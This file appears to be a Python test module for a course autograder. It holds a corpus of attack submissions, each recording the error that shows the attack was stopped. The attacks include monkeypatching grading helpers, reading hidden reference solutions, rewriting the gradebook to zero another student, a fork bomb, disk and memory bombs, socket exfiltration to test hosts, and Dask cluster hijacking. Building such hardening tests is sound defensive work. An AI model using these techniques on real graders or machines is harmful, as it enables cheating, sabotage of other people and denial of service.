"""The adversarial corpus: lab 1 submissions that each try one way to cheat the grader or harm it.

Every attacker is the clean student "cam" of :mod:`tests.cohort.cohort` (the first half of the
functions solved, the second half left as stubs) plus one attack: code typed into cam's first blank
solution cell (:data:`ATTACK_CELL`, ``softmax``), or an edit of the notebook on disk. So the honest
points of every attacker are exactly cam's, cell by cell, and anything above them is unearned.

Attackers are named ``atk_*``: in plain nbgrader's (sorted) order they come after ``ada`` and before
``ben``, ``cam`` and ``dee``, so an attack on other students' files or grades can hit one graded
before it (ada) and one graded after it (dee).

``stopped_by``: phrases that the graded notebook's outputs, the student's feedback or the TA's record
must contain to show what was stopped (a tuple: any one of its phrases, where the machine's speed decides
which limit stops the attack first). None of them occurs in the attacker's own submission (the
corpus test checks), so only the grader can have written them. ``must_not_show``: phrases the
attack prints only when it worked. ``gap``: a hole in the grading path that this attack still gets
through (the tests stay strict and fail for it; see the text). ``plain``: how
``tools/attack_table.py`` runs it under plain ``nbgrader autograde`` (see :class:`Plain`).

The corpus is built by :func:`corpus` with a ``token`` (names the files an attack tries to write
outside its working copy) and a ``port`` (a TCP port on 127.0.0.1 that the grading side listens on,
standing in for the Dask scheduler).
"""
from __future__ import annotations

import json
import socket
import textwrap
import threading
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Callable

import nbformat

from autograder.course.submissions import grade_id, solution_code
from tests.cohort.cohort import LAB, clean_fills

ATTACK_CELL = "softmax"
#: ``dlcourse grade`` options of the corpus test and the table (small enough for CI's 2 cores).
DLCOURSE_FLAGS = ["--workers", "2", "--no-progress", "--sandbox", "require", "--cell-timeout-s", "10",
                  "--memory-mib", "1024", "--startup-s", "20", "--disk-mib", "64", "--wall-s", "60",
                  "--output-bytes", "100000"]
#: Per-cell timeout of plain ``nbgrader autograde`` in the table (the same as ``--cell-timeout-s``).
PLAIN_CELL_TIMEOUT_S = 10


@dataclass(frozen=True)
class Plain:
    """How plain nbgrader runs an attack: ``skip`` says why it is not run at all; ``prlimit``: options
    of the ``prlimit`` it runs under (the kernel inherits them)."""

    skip: str = ""
    prlimit: tuple[str, ...] = ()


@dataclass(frozen=True)
class Attack:
    """One attacker: cam's submission plus ``code`` in :data:`ATTACK_CELL`, or ``edit`` of the notebook."""

    student: str
    title: str
    what_it_tries: str
    code: str = ""
    edit: Callable[[nbformat.NotebookNode], None] | None = None
    stopped_by: list[str | tuple[str, ...]] = field(default_factory=list)
    must_not_show: list[str] = field(default_factory=list)
    gap: str = ""
    plain: Plain = Plain()

    @property
    def fills(self) -> dict[str, str]:
        """cam's solution cells, plus the attack code in :data:`ATTACK_CELL` (if any)."""
        fills = dict(cam_fills())
        if self.code:
            fills[ATTACK_CELL] = self.code
        return fills


def cam_fills() -> dict[str, str]:
    return dict(_cam())


@lru_cache(maxsize=1)
def _cam() -> dict[str, str]:
    return clean_fills(LAB)["cam"]


def blank_functions() -> list[str]:
    """The functions cam left as stubs (the attacks' targets), in notebook order."""
    return [name for name in solution_code(LAB) if name not in cam_fills()]


def code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


# --------------------------------------------------------------------------- what attackers know
# The lookups and the forged reports use the course's *fixed* hidden cases (those plain nbgrader
# grades with, from the course salt), as if leaked from an earlier term.

KEY_SRC = code('''
    def _key(args, kwargs):
        """One input (positional and keyword arguments) as a short hash."""
        import hashlib
        import numpy as np
        h = hashlib.sha256()
        for v in list(args) + [kwargs[k] for k in sorted(kwargs)]:
            a = np.asarray(v, dtype=float)
            h.update(repr(a.shape).encode() + a.tobytes())
        return h.hexdigest()[:16]
''')


def _plain_cases(name: str) -> tuple:
    from autograder.grading.cases import get_spec
    from autograder.grading.seeding import case_rng

    spec = get_spec(f"{LAB}.{name}")
    return spec, spec.cases(case_rng(spec.qualname))


@lru_cache(maxsize=None)
def lookup_table() -> str:
    """JSON ``{function: {input hash: output}}`` of the reference on the fixed cases of the blank functions."""
    import numpy as np

    from autograder.grading.judging import expected_output

    ns: dict = {}
    exec(KEY_SRC, ns)
    table: dict = {}
    for name in blank_functions():
        spec, cases = _plain_cases(name)
        table[name] = {}
        for case in cases:
            out = expected_output(spec, case)
            table[name][ns["_key"](case.args, case.kwargs)] = np.asarray(out).tolist() if np.ndim(out) else float(out)
    return json.dumps(table, separators=(",", ":"))


@lru_cache(maxsize=None)
def forged_reports() -> str:
    """JSON ``{qualname: report}``: reports claiming the reference's outputs on the fixed cases."""
    from autograder.kernel import reports
    from autograder.grading.judging import expected_output

    forged = {}
    for name in blank_functions():
        spec, cases = _plain_cases(name)
        forged[spec.qualname] = {
            "version": reports.VERSION, "qualname": spec.qualname, "not_implemented": False,
            "cases": [{"case": c.name, "output": reports.encode(expected_output(spec, c))} for c in cases]}
    return json.dumps(forged, separators=(",", ":"))


@lru_cache(maxsize=None)
def forged_cases_file() -> str:
    """A cases file (the layout the grader writes) holding the course's fixed cases of the blank functions."""
    from autograder.kernel.runners import encode_cases

    return encode_cases({f"{LAB}.{n}": _plain_cases(n)[1] for n in blank_functions()}).decode()


def _lookup_code() -> str:
    return KEY_SRC + code(f'''
        import json as _json
        import numpy as _np
        _TABLE = _json.loads({lookup_table()!r})

        def _lookup(name):
            def answer(*args, **kwargs):
                out = _TABLE[name][_key(args, kwargs)]  # a KeyError for an input it has not seen
                return _np.array(out) if isinstance(out, list) else out
            return answer
    ''')


# --------------------------------------------------------------------------- on-disk edits

def _cell_index(nb, gid: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)


def _test_cells_from(nb, first: str) -> list:
    start = _cell_index(nb, first)
    return [c for c in nb.cells[start:] if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def insert_rebind_cell(nb) -> None:
    """A new cell between softmax's visible checks and its hidden test: softmax becomes a lookup."""
    src = _lookup_code() + "softmax = _lookup('softmax')  # replaces the function after its cell\n"
    nb.cells.insert(_cell_index(nb, "check_softmax") + 1, nbformat.v4.new_code_cell(src))


def edit_test_cell(nb) -> None:
    """test_softmax's source becomes its points (a cell whose last value is 2.0 scores 2 in nbgrader)."""
    nb.cells[_cell_index(nb, "test_softmax")].source = "2.0"


def delete_test_cells(nb) -> None:
    """Every hidden test cell from test_softmax on is deleted."""
    doomed = {id(c) for c in _test_cells_from(nb, "test_softmax")}
    nb.cells = [c for c in nb.cells if id(c) not in doomed]


def forge_solution_cell(nb) -> None:
    """test_softmax made an unlocked solution cell holding ``2.0``, with a matching checksum."""
    from nbgrader.utils import compute_checksum

    cell = nb.cells[_cell_index(nb, "test_softmax")]
    cell.source = "2.0"
    cell.metadata.nbgrader.update(solution=True, locked=False)
    cell.metadata.nbgrader["checksum"] = compute_checksum(cell)


def forge_points(nb) -> None:
    """Every test cell from test_softmax on: points x10, source = those points, checksums recomputed."""
    from nbgrader.utils import compute_checksum

    for cell in _test_cells_from(nb, "test_softmax"):
        cell.metadata.nbgrader["points"] = 10 * float(cell.metadata.nbgrader["points"])
        cell.source = repr(cell.metadata.nbgrader["points"])
        cell.metadata.nbgrader["checksum"] = compute_checksum(cell)


# --------------------------------------------------------------------------- the corpus

_NO_OUTPUTS = "no outputs were reported"
_TAKES_MACHINE_DOWN = "not run under plain nbgrader: would take the machine down"


def _marker(token: str) -> str:
    return f"dlcourse-exfil-{token}"


def corpus(token: str = "test", port: int = 8786) -> list[Attack]:
    """Every attack; ``token`` names the files written outside the working copy, ``port`` is listened on."""
    return (_replacing() + _patching() + _hooking() + _reading() + _editing() + _crashing()
            + _resources() + _escaping(token, port))


def _replacing() -> list[Attack]:
    return [
        Attack("atk_rebind_cell", "replace the tested function after its cell",
               "a cell inserted before test_softmax rebinds softmax to a lookup of the fixed hidden cases",
               edit=insert_rebind_cell, stopped_by=["raised KeyError"]),
        Attack("atk_frame_peek", "read the expected output from the grader's frames",
               "softmax walks up the call stack for a local named `expected` (the reference's output)",
               code=code('''
                   import sys

                   def softmax(y):
                       # The grader computed the reference's output before calling us: find it.
                       frame = sys._getframe(1)
                       while frame is not None:
                           if "expected" in frame.f_locals:
                               return frame.f_locals["expected"]
                           frame = frame.f_back
                       raise LookupError("nothing to copy")
               '''), stopped_by=["raised LookupError"]),
    ]


def _patching() -> list[Attack]:
    return [
        Attack("atk_compare", "redefine the comparison",
               "every module's `compare` and Spec.verdict report no mismatch; softmax returns a wrong shape",
               code=code('''
                   import sys

                   def softmax(y):
                       return np.zeros(1)  # wrong

                   # Whatever is compared, "no mismatch" (where the kernel can import the comparison).
                   try:
                       import autograder.grading.cases
                       import autograder.grading.compare
                   except ImportError as e:
                       print("comparison:", type(e).__name__)
                   else:
                       for module in list(sys.modules.values()):
                           if getattr(module, "compare", None) is autograder.grading.compare.compare:
                               module.compare = lambda *a, **k: None
                       autograder.grading.cases.Spec.verdict = lambda self, got, expected, case: None
               '''), stopped_by=["has shape (1,)"]),
        Attack("atk_score", "redefine the scoring helper",
               "autograder.grading.judging.score (points from the cases' results) returns full points whatever the cases did",
               code=code('''
                   try:
                       import autograder.grading.judging
                       autograder.grading.judging.score = lambda results, points: float(points)
                   except ImportError as e:
                       print("scoring:", type(e).__name__)
               '''), stopped_by=["not implemented yet"]),
        Attack("atk_check", "redefine the assertion helper",
               "autograder.check (what every test cell calls) just returns the cell's points",
               code=code('''
                   import autograder
                   import autograder.kernel.harness
                   autograder.check = autograder.kernel.harness.check = lambda fn, qualname, points, **uses: float(points)
               '''), stopped_by=[_NO_OUTPUTS]),
        Attack("atk_numpy", "monkeypatch numpy",
               "np.allclose/isclose/testing.assert_allclose always agree, np.abs (the judge's error) is 0",
               code=code('''
                   def softmax(y):
                       return np.zeros_like(np.asarray(y, dtype=float))  # right shape, wrong values

                   np.allclose = lambda *a, **k: True
                   np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
                   np.testing.assert_allclose = lambda *a, **k: None
                   np.abs = np.absolute = lambda x, *a, **k: np.zeros(np.shape(x))
               '''), stopped_by=["values off, largest error"]),
    ]


_POINTS_OF = code('''
    import re

    def _points_of(source):
        """The points of a hidden test cell's check(...) call, or None for any other cell."""
        found = re.search(r"points=([0-9.]+)", source)
        return found.group(1) if found and "check(" in source else None
''')


def _hooking() -> list[Attack]:
    return [
        Attack("atk_transformer", "hook IPython's input transformers",
               "every later hidden test cell is rewritten to just its points, so no test runs",
               code=_POINTS_OF + code('''
                   def _only_points(lines):
                       points = _points_of("".join(lines))
                       return [points + "\\n"] if points else lines
                   get_ipython().input_transformers_post.append(_only_points)
               '''), stopped_by=[_NO_OUTPUTS]),
        Attack("atk_pre_run", "hook IPython's pre_run_cell event",
               "before every cell, `from autograder import check` is made to give a fake returning the points",
               code=code('''
                   import sys

                   def _fake_check(fn, qualname, points, **uses):
                       return float(points)

                   def _before(info):
                       sys.modules["autograder"].check = _fake_check
                   get_ipython().events.register("pre_run_cell", _before)
               '''), stopped_by=[_NO_OUTPUTS]),
        Attack("atk_run_cell", "replace IPython's run_cell",
               "run_cell and run_cell_async run each hidden test cell's points instead of its code",
               code=_POINTS_OF + code('''
                   _ip = get_ipython()
                   _run, _run_async = _ip.run_cell, _ip.run_cell_async

                   def _swap(raw_cell):
                       return _points_of(raw_cell) or raw_cell

                   async def _run_cell_async(raw_cell, *a, **k):
                       return await _run_async(_swap(raw_cell), *a, **k)

                   _ip.run_cell = lambda raw_cell, *a, **k: _run(_swap(raw_cell), *a, **k)
                   _ip.run_cell_async = _run_cell_async
               '''), stopped_by=[_NO_OUTPUTS]),
        Attack("atk_traceback", "override showtraceback",
               "errors leave no output (nbgrader gives a test cell without output full points), and "
               "every later test cell is made to raise",
               code=code('''
                   import labkit.checks

                   get_ipython().showtraceback = lambda *a, **k: None  # errors are swallowed
                   labkit.checks.require_passed = lambda name: 1 / 0  # every later test cell raises
               '''), stopped_by=[_NO_OUTPUTS]),
    ]


def _reading() -> list[Attack]:
    source_nb = f"source/{LAB}/{LAB}.ipynb"
    exec_softmax = code('''
        cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "softmax")
        exec("".join(cell["source"]))  # the reference solution, now defined here
    ''')
    return [
        Attack("atk_import_ref", "import the reference package",
               "`from solutions.lab01_neurons_losses import softmax`",
               code=f"from solutions.{LAB} import softmax  # the reference\n",
               stopped_by=["ModuleNotFoundError"]),
        Attack("atk_ref_by_path", "load the reference by path",
               "finds the repository from labkit's location, puts it on sys.path and executes solutions/*.py",
               code=code('''
                   import os
                   import sys
                   import labkit

                   repo = os.path.dirname(os.path.dirname(os.path.realpath(labkit.__file__)))
                   sys.path.insert(0, repo)
                   namespace = {}
                   exec(open(os.path.join(repo, "solutions", "activations.py")).read(), namespace)
                   softmax = namespace["softmax"]
               '''), stopped_by=["FileNotFoundError"]),
        Attack("atk_source_rel", "read source/ by a relative path",
               "opens ../../../source/<lab>/<lab>.ipynb (the course root, seen from autograded/<student>/<lab>/) "
               "and runs its softmax solution",
               code=f"import json\nnb = json.load(open('../../../{source_nb}'))\n" + exec_softmax,
               stopped_by=["FileNotFoundError"]),
        Attack("atk_source_abs", "read source/ by an absolute path",
               "autograder.course.REPO, else the repository found from labkit's location, then source/<lab>",
               code=code(f'''
                   import json
                   import os
                   try:
                       from autograder.course import REPO as repo
                   except ImportError as e:
                       print("course module:", type(e).__name__)
                       import labkit
                       repo = os.path.dirname(os.path.dirname(os.path.realpath(labkit.__file__)))
                   nb = json.load(open(os.path.join(repo, "{source_nb}")))
               ''') + exec_softmax, stopped_by=["FileNotFoundError"]),
        Attack("atk_gradebook", "write the gradebook",
               "opens ../../../gradebook.db: manual scores (which override the autograder's) of full marks "
               "for itself and 0 for ada",
               code=code('''
                   import os
                   import sqlite3

                   me = os.path.basename(os.path.dirname(os.getcwd()))
                   db = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True)
                   mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                           "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")
                   db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells g "
                              f"WHERE g.id = grade.cell_id) WHERE notebook_id IN ({mine})", (me,))
                   db.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({mine})", ("ada",))
                   db.commit()
                   print("gradebook rows changed:", db.total_changes)
               '''), stopped_by=["unable to open database file"], must_not_show=["gradebook rows changed"]),
        Attack("atk_hidden_cases", "read the course salt and the hidden cases",
               "imports autograder.grading.salt, the reference and the case generators (autograder.grading.cases, the "
               "seeds), reads the grading environment, prints the generators base64-encoded (past the "
               "feedback filter)",
               code=code('''
                   import base64
                   import importlib
                   import os

                   for name in ("autograder.grading.salt", "solutions", "autograder.grading.seeding", "autograder.grading.cases"):
                       try:
                           module = importlib.import_module(name)
                           print("GOT", name, getattr(module, "course_salt", lambda: "")())
                       except ImportError as e:
                           print(name, "->", type(e).__name__, e)
                   print({k: v for k, v in os.environ.items() if "SALT" in k or "SEED" in k})
                   import autograder
                   folder = os.path.join(os.path.dirname(autograder.__file__), "grading", "cases")
                   try:
                       with open(os.path.join(folder, "lab01_neurons_losses.py"), "rb") as f:
                           print("GOT generators", base64.b64encode(f.read()).decode()[:400])
                   except OSError as e:
                       print("generators ->", type(e).__name__)
                   from autograder.grading.cases import get_spec
                   softmax = get_spec("lab01_neurons_losses.softmax").reference
               '''), stopped_by=["No module named 'autograder.grading'", "No module named 'solutions'"],
               must_not_show=["GOT"]),
        Attack("atk_cases_file", "give the kernel other inputs",
               "overwrites this run's cases file (what the grader gave the kernel) with the course's fixed "
               "cases, whose answers it holds, and rebinds softmax to a lookup of them",
               code=_lookup_code() + code(f'''
                   import os
                   for _path in (os.environ.get("DLCOURSE_CASES"), ".dlcourse-given/cases.json"):
                       if _path and os.path.exists(_path):
                           with open(_path, "w") as _f:
                               _f.write({forged_cases_file()!r})
                           print("cases file replaced")
                   softmax = _lookup("softmax")
               '''), stopped_by=["values off, largest error"]),
    ]


def _editing() -> list[Attack]:
    return [
        Attack("atk_edit_test", "edit a test cell",
               "test_softmax's source replaced by `2.0` (its points)",
               edit=edit_test_cell, stopped_by=["softmax: 0/8 hidden cases passed"]),
        Attack("atk_delete_tests", "delete test cells",
               "every hidden test cell from test_softmax on is deleted",
               edit=delete_test_cells, stopped_by=["restored from the source"]),
        Attack("atk_forge_solution", "turn a test cell into a solution cell",
               "test_softmax made an unlocked solution cell holding `2.0`, checksum recomputed",
               edit=forge_solution_cell, stopped_by=["could not prepare the notebook"]),
        Attack("atk_forge_points", "forge points and checksums",
               "every later test cell: points x10 and its source those points, checksums recomputed",
               edit=forge_points, stopped_by=["softmax: 0/8 hidden cases passed"]),
        Attack("atk_forge_report", "forge the grader's report",
               "from a pre_run_cell hook, check displays a dlcourse report of the reference's outputs on the "
               "fixed cases, and returns the points",
               code=code(f'''
                   import json
                   import sys
                   from IPython.display import display

                   _FORGED = json.loads({forged_reports()!r})

                   def _forged_check(fn, qualname, points, **uses):
                       report = {{"application/vnd.dlcourse.report+json": _FORGED[qualname], "text/plain": "ok"}}
                       display(report, raw=True)
                       return float(points)

                   def _before(info):
                       sys.modules["autograder"].check = _forged_check
                   get_ipython().events.register("pre_run_cell", _before)
               '''), stopped_by=["values off, largest error"],
),
    ]


def _crashing() -> list[Attack]:
    return [
        Attack("atk_sys_exit", "sys.exit()", "leaves the notebook with sys.exit()",
               code="import sys\nsys.exit('bye')\n", stopped_by=["SystemExit"]),
        Attack("atk_os_exit", "os._exit(0)", "ends the kernel process at once",
               code="import os\nos._exit(0)\n", stopped_by=["KernelDied"]),
        Attack("atk_segfault", "segfault through ctypes", "reads address 0",
               code="import ctypes\nctypes.string_at(0)\n", stopped_by=["KernelDied"]),
    ]


def _resources() -> list[Attack]:
    return [
        Attack("atk_fork_bomb", "fork bomb",
               "every process forks again, 10 generations (1024 processes, a fuse for the test machine)",
               code=code('''
                   import os
                   import time

                   kernel, fuse, refused = os.getpid(), time.time() + 60, None
                   for _ in range(10):  # each process forks again: 2**10 processes
                       try:
                           os.fork()
                       except OSError as e:
                           refused = e
                           break
                   if os.getpid() != kernel:  # the copies hold their process slots until the fuse
                       time.sleep(max(0.0, fuse - time.time()))
                       os._exit(0)
                   print("forks refused:", refused)
               '''), stopped_by=["LimitExceeded"], plain=Plain(skip=_TAKES_MACHINE_DOWN)),
        Attack("atk_memory_bomb", "memory bomb", "allocates 128 MiB after 128 MiB until stopped",
               code=code('''
                   hog = []
                   while True:
                       hog.append(np.ones(2**24))
               '''), stopped_by=["LimitExceeded", "memory limit of"],
               plain=Plain(prlimit=(f"--as={6 << 30}",))),
        Attack("atk_disk_fill", "fill the disk",
               "writes 16 MiB files into its folder (at most 1 GiB, a fuse for the test machine)",
               code=code('''
                   block = bytes(16 << 20)
                   for i in range(64):
                       with open(f"fill{i}.bin", "wb") as f:
                           f.write(block)
               '''), stopped_by=["LimitExceeded", "disk quota of"],
               plain=Plain(prlimit=(f"--fsize={64 << 20}",))),
        Attack("atk_endless_output", "endless output", "prints without end",
               # the kernel sends at most about 1 MB a message (autograder.kernel.streams), so the cell's
               # output budget stops it, never the largest-message limit (which stopped it on idle machines)
               code="while True:\n    print('spam ' * 200)\n", stopped_by=["output over"],
               plain=Plain(prlimit=(f"--as={8 << 30}",))),
        Attack("atk_sleep", "sleep past the timeout",
               "sleeps and ignores the grader's interrupt (for at most 45 s, a fuse for the test machine)",
               code=code('''
                   import time
                   end = time.time() + 45
                   while time.time() < end:
                       try:
                           time.sleep(end - time.time())
                       except KeyboardInterrupt:
                           pass  # ignore the per-cell timeout's interrupt
               '''), stopped_by=["ran past the per-cell timeout"]),
    ]


def _escaping(token: str, port: int) -> list[Attack]:
    marker = _marker(token)
    return [
        Attack("atk_network", "open a network connection and exfiltrate",
               f"TCP and UDP to 127.0.0.1:{port} (where the grader listens) and to 192.0.2.1:80; writes "
               f"{marker} to /tmp, ~, /var/tmp, /dev/shm and the folder above its working copy",
               code=code(f'''
                   import os
                   import socket

                   def _try(what, action):
                       try:
                           print(what, action())
                       except OSError as e:
                           print(what, "->", type(e).__name__, e)

                   def _tcp(host, port):
                       with socket.create_connection((host, port), timeout=3) as s:
                           s.sendall(b"exfiltrated")
                       return "CONNECTED, sent"

                   def _udp(host, port):
                       socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrated", (host, port))
                       return "sent"

                   for host, port in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
                       _try(f"tcp {{host}}:{{port}}", lambda: _tcp(host, port))
                       _try(f"udp {{host}}:{{port}}", lambda: _udp(host, port))
                   for folder in ("/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", ".."):
                       try:
                           with open(os.path.join(folder, "{marker}"), "w") as f:
                               f.write("exfiltrated")
                           print("wrote into", folder)
                       except OSError as e:
                           print(folder, "->", type(e).__name__)
               '''), stopped_by=["Network is unreachable", "Connection refused"], must_not_show=["CONNECTED"]),
        Attack("atk_cluster", "reach the grading cluster from the kernel",
               "finds its worker's TCP connections through /proc (the scheduler's port), reads the worker's "
               f"environment for Dask's settings, and connects to them and to 127.0.0.1:{port} (standing in for "
               "the scheduler) with plain TCP and with Dask, to run code on the workers",
               code=code(f'''
                   import os
                   import socket

                   def _socket_inodes(pid):
                       found = set()
                       for fd in os.listdir(f"/proc/{{pid}}/fd"):
                           try:
                               target = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
                           except OSError:
                               continue
                           if target.startswith("socket:["):
                               found.add(target[8:-1])
                       return found

                   parent, ports = os.getppid(), set()
                   try:
                       theirs = _socket_inodes(parent)  # the worker's sockets, when the kernel is its child
                       for table in ("/proc/net/tcp", "/proc/net/tcp6"):
                           for line in open(table).read().splitlines()[1:]:
                               f = line.split()
                               if f[9] in theirs and f[3] == "01":  # established: the far end is the cluster
                                   ports.add(int(f[2].split(":")[1], 16))
                   except OSError as e:
                       print("the parent's sockets ->", type(e).__name__)
                   print("cluster ports found:", sorted(ports))
                   try:
                       settings = open(f"/proc/{{parent}}/environ", "rb").read()
                       print("GOT DASK SETTINGS" if b"DASK_DISTRIBUTED" in settings else "no Dask settings")
                   except OSError as e:
                       print("the parent's environment ->", type(e).__name__)
                   for port in sorted(ports) + [{port}]:
                       try:
                           socket.create_connection(("127.0.0.1", port), timeout=3).close()
                       except OSError as e:
                           print(f"tcp 127.0.0.1:{{port}} ->", type(e).__name__, e)
                           continue
                       from distributed import Client
                       from distributed.security import Security
                       for scheme, kwargs in (("tcp", {{}}), ("tls", {{"security": Security.temporary()}})):
                           try:
                               client = Client(f"{{scheme}}://127.0.0.1:{{port}}", timeout="3s", **kwargs)
                               client.run(lambda: None)
                               print("HIJACKED", scheme, port)
                               client.close()
                           except Exception as e:
                               print(scheme, port, "->", type(e).__name__)
               '''), stopped_by=["Connection refused"], must_not_show=["HIJACKED", "GOT DASK SETTINGS"]),
        Attack("atk_other_student", "write into other students' folders",
               "drops a file into ../../ada/<lab>/ and blanks dee's submitted notebook "
               "(../../../submitted/dee/...)",
               code=code(f'''
                   import json

                   def _attempt(what, action):
                       try:
                           action()
                           print("WROTE", what)
                       except OSError as e:
                           print(what, "->", type(e).__name__, e)

                   def _blank(path):
                       nb = json.load(open(path))
                       for cell in nb["cells"]:
                           if cell["metadata"].get("nbgrader", {{}}).get("solution"):
                               cell["source"] = "raise NotImplementedError()"
                       json.dump(nb, open(path, "w"))

                   _attempt("ada's folder", lambda: open("../../ada/{LAB}/{marker}.txt", "w").write("was here"))
                   _attempt("dee's submission", lambda: _blank("../../../submitted/dee/{LAB}/{LAB}.ipynb"))
               '''), stopped_by=["FileNotFoundError"], must_not_show=["WROTE"]),
    ]


# --------------------------------------------------------------------------- the grading side

class Listener:
    """A TCP and a UDP socket on one free port of 127.0.0.1, standing in for the Dask scheduler.

    ``contacts`` records every TCP connection and UDP datagram that reached them.
    """

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.contacts: list[str] = []
        for what, receive in (("TCP connection", lambda: self.tcp.accept()[0].close()),
                              ("UDP datagram", lambda: self.udp.recv(100))):
            threading.Thread(target=self._serve, args=(what, receive), daemon=True).start()

    def _serve(self, what: str, receive: Callable) -> None:
        while True:
            try:
                receive()
            except OSError:  # closed
                return
            self.contacts.append(what)

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


# --------------------------------------------------------------------------- reading the results

def outputs_text(nb: nbformat.NotebookNode | None) -> str:
    """Every output of a graded notebook as text: streams, errors, plain-text results."""
    parts = []
    for cell in nb.cells if nb is not None else []:
        parts += [_output_text(out) for out in cell.get("outputs", [])]
    return "\n".join(parts)


def _output_text(out) -> str:
    if out.output_type == "stream":
        return out.text
    if out.output_type == "error":
        return f"{out.ename}: {out.evalue}"
    return str(out.get("data", {}).get("text/plain", ""))


def graded_notebook(root: Path, student: str) -> nbformat.NotebookNode | None:
    from autograder.course import notebook_path

    path = notebook_path(root, "autograded", LAB, student)
    return nbformat.read(path, as_version=4) if path.is_file() else None


def evidence(nb: nbformat.NotebookNode | None) -> str:
    """What a graded notebook shows of an attack: the attack cell's error, test_softmax's first failure."""
    found = []
    for cell in nb.cells if nb is not None else []:
        texts = [_output_text(o) for o in cell.get("outputs", [])]
        errors = [f"{o.ename}: {o.evalue}" for o in cell.get("outputs", []) if o.output_type == "error"]
        if grade_id(cell) == ATTACK_CELL and (errors or texts):
            found.append(f"{ATTACK_CELL} cell: {(errors or texts)[0]}")
        if grade_id(cell) == f"test_{ATTACK_CELL}":
            failed = [ln.split("': ", 1)[-1] for t in texts for ln in t.splitlines() if ln.strip().startswith("- case")]
            found.append(f"test_{ATTACK_CELL}: {(failed or errors or ['no failure shown'])[0]}")
    return "; ".join(found)


# --------------------------------------------------------------------------- courses

def exfil_paths(token: str) -> list[Path]:
    """Host paths :func:`corpus`'s network attack tries to write (none may exist after dlcourse grade)."""
    import os
    import tempfile

    folders = {"/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", tempfile.gettempdir()}
    return [Path(f) / _marker(token) for f in sorted(folders)]


def apply_edit(path: Path, edit: Callable) -> None:
    nb = nbformat.read(path, as_version=4)
    edit(nb)
    nbformat.write(nb, path)


def make_attack_course(root: Path, attacks: list[Attack]) -> Path:
    """A scratch course with the clean students and one submission per attack."""
    from autograder.course import notebook_path
    from tests.cohort.cohort import make_course

    root = make_course(root, {**clean_fills(LAB), **{a.student: a.fills for a in attacks}})
    for attack in attacks:
        if attack.edit:
            apply_edit(notebook_path(root, "submitted", LAB, attack.student), attack.edit)
    return root
